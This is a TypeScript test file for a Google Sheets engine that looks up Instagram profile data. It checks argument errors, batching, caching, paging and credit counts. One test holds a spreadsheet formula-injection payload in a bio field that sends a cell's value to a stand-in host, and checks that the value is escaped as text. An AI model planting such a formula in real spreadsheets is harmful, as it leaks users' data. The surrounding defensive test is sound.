/**
 * The Sheets engine in-process: arguments, planned rows, runs against an injected client and
 * store, formatting. A fake service and an in-memory cache stand in for UrlFetchApp and
 * CacheService (fakes.ts); nothing is built and no sandbox runs.
 */
import { getEndpoint } from '@igdata/core';
import { parseArgs } from '../src/engine/args';
import { fetchMany } from '../src/engine/fetch';
import { evaluateFormula } from '../src/engine/formula';
import { planRow, uniqueCalls } from '../src/engine/rows';
import { walkCalls } from '../src/engine/walk';
import { cellsOf, entered } from '../src/engine/values';
import { KEY, POSTS, fakeDeps } from './fakes';

const column = (values: unknown[]) => values.map((v) => [v]);
const run = (deps: ReturnType<typeof fakeDeps>, id: string, ...args: unknown[]) =>
  evaluateFormula(id, args, () => deps);

describe('arguments', () => {
  test('a target left out fails with a message naming the argument (never a silent blank)', () => {
    const deps = fakeDeps();
    expect(() => run(deps, 'profile')).toThrow(
      'handle must be a username, @username, numeric id or profile URL; got nothing (the argument is left out). (Not charged.)',
    );
    expect(deps.svc.sent).toEqual([]);
  });

  test('a blank target cell is a blank row, not an error', () => {
    expect(run(fakeDeps(), 'profile', '', 'followers')).toBe('');
    expect(run(fakeDeps(), 'profile', column(['nasa', '', 'natgeo']), 'followers')).toEqual([
      [97400000],
      [''],
      [283000000],
    ]);
  });

  test('too many arguments, and a range where one value is expected, name the argument', () => {
    const profile = getEndpoint('profile');
    expect(() => parseArgs(profile, ['nasa', 'followers', false, false, 'extra'])).toThrow(
      /^arguments must be at most 4 \(handle, fields, header, refresh\)/,
    );
    expect(() => parseArgs(profile, ['nasa', 'followers', [[true], [false]]])).toThrow(
      /^header must be a single value, not a range/,
    );
  });
});

describe('header default', () => {
  test('one target with several fields gets a header; one field stays a bare value', () => {
    const deps = fakeDeps();
    expect(run(deps, 'profile', 'nasa', 'followers,following')).toEqual([
      ['followers', 'following'],
      [97400000, 82],
    ]);
    expect(run(deps, 'profile', 'nasa', 'followers')).toBe(97400000);
    expect(run(deps, 'profile', 'nasa', 'followers,following', false)).toEqual([[97400000, 82]]);
  });

  test('a range keeps its rows aligned with the input: no header unless asked', () => {
    const deps = fakeDeps();
    expect(run(deps, 'profile', column(['nasa', 'natgeo']), 'username,followers')).toEqual([
      ['nasa', 97400000],
      ['natgeo', 283000000],
    ]);
    expect(run(deps, 'profile', column(['nasa']), 'username,followers', true)).toEqual([
      ['username', 'followers'],
      ['nasa', 97400000],
    ]);
  });
});

describe('runs against the injected client and store', () => {
  test("the field _error holds a failed lookup's code beside its sentence, blank for an answer", () => {
    const out = run(
      fakeDeps(),
      'profile',
      column(['nasa', 'nobody_1', 'bad handle!']),
      'followers,_error',
    ) as unknown[][];
    expect(out[0]).toEqual([97400000, '']);
    expect(out[1]).toEqual([expect.stringMatching(/^@nobody_1 has no public data/), 'not_found']);
    expect(out[2]).toEqual([expect.stringMatching(/^handle must be/), 'invalid_input']);
  });

  test('a range: repeated targets fetched once in one batch; recalculating is served by the store, and a billed "no public data" served again says it is free now', () => {
    const clock = { t: Date.UTC(2026, 10, 25, 10) }; // the day the note names
    const deps = fakeDeps(undefined, undefined, () => clock.t);
    const input = column(['nasa', '@NASA', 'natgeo', 'nobody_1', 'bad handle!']);
    const out = run(deps, 'profile', input, 'followers') as unknown[][];
    expect(out[0]).toEqual([97400000]);
    expect(out[1]).toEqual([97400000]);
    expect(out[3][0]).toBe('@nobody_1 has no public data: private, deleted or nonexistent. (Charged 1 credit.)');
    expect(out[4][0]).toMatch(/^handle must be .*; got "bad handle!"\. \(Not charged\.\)$/);
    expect(deps.svc.sent).toEqual(['profile?handle=nasa', 'profile?handle=natgeo', 'profile?handle=nobody_1']);
    expect(deps.svc.batches).toEqual([3]);
    clock.t += 3600000;
    const again = run(deps, 'profile', input, 'followers') as unknown[][];
    expect(deps.svc.sent).toHaveLength(3); // the billed 404 is stored too
    expect(again[3][0]).toBe(
      '@nobody_1 has no public data: private, deleted or nonexistent. ' +
        '(Charged 1 credit when first looked up on 25 Nov; free now.)',
    );
    expect(again.filter((_, i) => i !== 3)).toEqual(out.filter((_, i) => i !== 3));
    expect([...deps.cache.items.keys()].every((k) => k.startsWith('igd1:') && !k.includes(KEY))).toBe(true);
  });

  test("an empty page with a next cursor is not the end of the list (core's paging rule)", () => {
    const deps = fakeDeps();
    const out = run(deps, 'profile/posts', 'natgeo', 'shortcode', false, 5) as unknown[][];
    expect(out.map((r) => r[0])).toEqual(['natgeo0', 'natgeo1', 'natgeo2', 'natgeo3', 'natgeo4']);
    expect(deps.svc.sent).toEqual(['profile/posts?handle=natgeo', 'profile/posts?cursor=0&handle=natgeo']);
  });

  test('lists page breadth-first: page N of every target in one batch, stopping at the limit', () => {
    const deps = fakeDeps();
    const posts = getEndpoint('profile/posts');
    const calls = uniqueCalls(['nasa', 'nike'].map((h) => planRow(posts, 'handle', {}, h)));
    const r = walkCalls(posts, calls, deps, { deadline: deps.now() + 10000, refresh: false, limit: 20 });
    expect(deps.svc.batches).toEqual([2, 2]);
    expect(deps.svc.sent).toEqual([
      'profile/posts?handle=nasa',
      'profile/posts?handle=nike',
      'profile/posts?cursor=12&handle=nasa',
      'profile/posts?cursor=12&handle=nike',
    ]);
    expect([...r.results.values()].map((t) => t.items.length)).toEqual([20, 20]);
    expect(r).toMatchObject({ credits: 8, requests: 4, fromStore: [] });
    // Without a limit: the first page only. With more than the list holds: to its end.
    expect(run(fakeDeps(), 'profile/posts', 'nasa', 'shortcode', false) as unknown[][]).toHaveLength(12);
    expect(run(fakeDeps(), 'profile/posts', 'nasa', 'shortcode', false, 500) as unknown[][]).toHaveLength(POSTS);
  });

  test('a deadline already passed sends nothing and says so in every row', () => {
    const deps = fakeDeps();
    const profile = getEndpoint('profile');
    const calls = uniqueCalls(['nasa', 'natgeo'].map((h) => planRow(profile, 'handle', {}, h)));
    const r = fetchMany(calls, deps, { deadline: deps.now() - 1 });
    expect(r.stats).toMatchObject({ late: 2, requests: 0, cacheHits: 0 });
    expect([...r.outcomes.values()].every((o) => o.kind === 'late')).toBe(true);
  });

  test('counts are counted: requests as sent, store hits as read', () => {
    const deps = fakeDeps();
    const profile = getEndpoint('profile');
    const calls = uniqueCalls(['nasa', 'natgeo', 'nobody_2'].map((h) => planRow(profile, 'handle', {}, h)));
    expect(fetchMany(calls, deps, { deadline: deps.now() + 1000 }).stats).toMatchObject({
      unique: 3,
      requests: 3,
      cacheHits: 0,
      credits: 3,
    });
    expect(fetchMany(calls, deps, { deadline: deps.now() + 1000 }).stats).toMatchObject({
      unique: 3,
      requests: 0,
      cacheHits: 3,
      credits: 0,
    });
  });

  test('a wrong key answers where to set it, in the cell', () => {
    const deps = fakeDeps();
    deps.client.config.apiKey = 'sk_wrong';
    expect(run(deps, 'profile', 'nasa', 'followers')).toBe(
      'Invalid API key. Set it in Extensions > IG Data > Settings. (Not charged.)',
    );
  });
});

test('a value for a sheet write: every non-empty string quote-prefixed (none in a plain-text cell), ids as text, ISO *_at as dates, numbers as numbers', () => {
  const item = {
    id: 17841405,
    owner_pk: 12,
    username: '0012345',
    bio: '=IMAGE("https://x/leak?"&A1)',
    taken_at: '2026-01-05T10:00:00Z',
    day: '2026-01-05',
    followers: 12,
    ok: true,
    none: null,
  };
  const cells = cellsOf(item, ['id', 'owner_pk', 'username', 'bio', 'taken_at', 'day', 'followers', 'ok', 'none']);
  expect(cells).toEqual([
    '17841405',
    '12',
    '0012345',
    '=IMAGE("https://x/leak?"&A1)',
    new Date('2026-01-05T10:00:00Z'),
    '2026-01-05',
    12,
    true,
    '',
  ]);
  expect(cells.map((c) => entered(c, false))).toEqual([
    "'17841405",
    "'12",
    "'0012345",
    '\'=IMAGE("https://x/leak?"&A1)',
    new Date('2026-01-05T10:00:00Z'),
    "'2026-01-05",
    12,
    true,
    '',
  ]);
  expect(entered("'x", false)).toBe("''x");
  expect(entered('=1+1', true)).toBe('=1+1');
});
